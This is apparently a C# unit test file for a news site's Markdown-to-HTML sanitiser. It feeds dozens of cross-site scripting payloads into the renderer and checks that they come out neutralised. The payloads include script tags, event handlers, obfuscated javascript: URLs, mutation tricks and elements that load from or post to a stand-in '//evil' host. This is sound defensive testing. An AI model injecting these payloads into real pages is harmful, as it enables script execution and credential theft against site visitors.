namespace NewsFeeds.Tests.Rendering.Html;

public class HostileHtmlTests
{
    [Theory]
    [InlineData("<script>alert(1)</script>x", "x")]
    [InlineData("a<SCRIPT SRC=//evil/x.js></SCRIPT>b", "<p>ab</p>")]
    [InlineData("<scr<script>ipt>alert(1)</script>", "<p>&lt;scr</p>")]
    [InlineData("<img src=x onerror=alert(1)>", "<img src=\"https://bao.vn/tin/x\">")]
    [InlineData("<p onclick='alert(1)' onmouseover=\"x\">a</p>", "<p>a</p>")]
    [InlineData("[x](javascript:alert(1))", "<p>x</p>")]
    [InlineData("[x](JaVaScRiPt:alert(1))", "<p>x</p>")]
    [InlineData("[x](vbscript:msgbox(1))", "<p>x</p>")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD4=)", "<p>x</p>")]
    [InlineData("[x](file:///etc/passwd)", "<p>x</p>")]
    [InlineData("<a href=\"java&#x0A;script:alert(1)\">x</a>", "<p>x</p>")]
    [InlineData("<a href=\" &#14; javascript:alert(1)\">x</a>", "<p>x</p>")]
    [InlineData("<a href=\"java&Tab;script:alert(1)\">x</a>", "<p>x</p>")]
    [InlineData("<javascript:alert(1)>", "<p>javascript:alert(1)</p>")]
    [InlineData("![x](javascript:alert(1))", "")]
    [InlineData("![x](data:image/svg+xml;base64,PHN2Zz4=)", "")]
    [InlineData("<img srcset=\"javascript:alert(1) 1x, data:a 2x\">", "")]
    [InlineData(
        "<video poster=javascript:alert(1) src=a.mp4 autoplay></video>",
        "<p><video src=\"https://bao.vn/tin/a.mp4\" controls=\"\"></video></p>")]
    [InlineData("<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>y", "<p>y</p>")]
    [InlineData("<math><mi xlink:href=javascript:alert(1)>x</mi></math>y", "<p>y</p>")]
    [InlineData("<style>p{background:url(javascript:1)}</style>a", "a")]
    [InlineData("<p style=\"background:url(javascript:alert(1))\">a</p>", "<p>a</p>")]
    [InlineData("<iframe srcdoc='<script>alert(1)</script>'></iframe>a", "a")]
    [InlineData("<iframe src=javascript:alert(1)></iframe>a", "a")]
    [InlineData("<object data=javascript:alert(1)></object>a", "<p>a</p>")]
    [InlineData("<embed src=data:text/html,x>a", "<p>a</p>")]
    [InlineData("<form action=//evil><input name=p type=password><button>OK</button>Chữ</form>", "Chữ")]
    [InlineData("<meta http-equiv=refresh content='0;url=//evil'>a", "<p>a</p>")]
    [InlineData("<base href=//evil/><a href=x>a</a>", "<a href=\"https://bao.vn/tin/x\">a</a>")]
    [InlineData("<link rel=stylesheet href=//evil/x.css>a", "a")]
    [InlineData("<frameset onload=alert(1)><frame src=x></frameset>a", "a")]
    [InlineData("<body onload=alert(1)>a</body>b", "ab")]
    [InlineData("<template><img src=x onerror=alert(1)></template>a", "<p>a</p>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">a</p></noscript>",
        "<p title=\"&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;\">a</p>")]
    [InlineData("<textarea><img src=x onerror=alert(1)></textarea>a", "a")]
    [InlineData("<title><img src=x onerror=alert(1)></title>a", "a")]
    [InlineData("<xmp><img src=x onerror=alert(1)></xmp>", "&lt;img src=x onerror=alert(1)&gt;")]
    [InlineData("<!--><img src=x onerror=alert(1)>-->a", "<img src=\"https://bao.vn/tin/x\">--&gt;a")]
    [InlineData("<a href=x target=_blank rel=opener ping=//evil download>a</a>", "<p><a href=\"https://bao.vn/tin/x\">a</a></p>")]
    [InlineData("<div id=a name=b class=c data-x=d contenteditable tabindex=1 is=x-y>a</div>", "<div>a</div>")]
    public void IsMadeHarmless(string markdown, string html) => Assert.Equal(html, Rendered.Html(markdown));

    [Fact]
    public void WhatWasRemovedIsNamedWithItsPlace() => Assert.Equal(
        ["1:1 <script>", "2:1 onclick <p>", "3:1 javascript: <a>", "4:1 <input>", "6:5 <nguyen>", "7:1 <script>"],
        Removed("<script>1</script>\n<p class=a onclick=x>a</p>\n<a href=javascript:1>b</a>\n<input> <font>c</font>\n\nÔng <Nguyen> nói\n"
            + "<script>2</script>"));

    [Theory]
    [InlineData("Xem `<script>` và onclick\n\na <b onclick=x>b</b>\n\n<script>1</script>", "3:3 onclick <b>", "5:1 <script>")]
    [InlineData("```\n<script>\n```\n\n> - a\n>\n>   <div>\n>   <p>b <script>1</script>\n>   </div>", "8:10 <script>")]
    [InlineData("<div>\n<p\n  onclick=x>a</p>\n <p>b</p> <p onclick=y>c</p>\n</div>", "2:1 onclick <p>", "4:11 onclick <p>")]
    [InlineData("javascript:\n\n| a | b |\n|---|---|\n| c | [d](javascript:e) |", "5:7 javascript: <a>")]
    [InlineData("a[^1]\n\n[^1]: b <script>1</script>\n\nc <input>", "3:9 <script>", "5:3 <input>")]
    [InlineData("a\n\n[![b](data:x)](c)", "3:2 data: <img>")]
    [InlineData("a\r\n\r\n<p>\r\nb <input></p>", "4:3 <input>")]
    [InlineData("`<svg>`\n\n<p>\n<svg><path/></svg> a <math></math>\n\nb <SVG></SVG>", "4:1 <svg>", "4:22 <math>", "6:3 <svg>")]
    [InlineData("a\n\n[b][c]\n\n[c]: javascript:x", "3:1 javascript: <a>")]
    public void APlaceIsThatOfTheTagWhateverElseReadsLikeIt(string markdown, params string[] removed) =>
        Assert.Equal(removed, Removed(markdown));

    [Fact]
    public void HonestTextRemovesNothing() =>
        Assert.Empty(
            Rendered.Body("<!-- wp:x -->\n<p class=\"a\" style=\"b\" data-c=\"d\"><font>x</font></p>\n\n[a](b) ![c](d.jpg)").Removed);

    private static IEnumerable<string> Removed(string markdown) =>
        Rendered.Body(markdown, withPlaces: true).Removed
            .Select(removed => $"{removed.Line}:{removed.Column} {string.Join(' ', removed.Arguments)}");
}
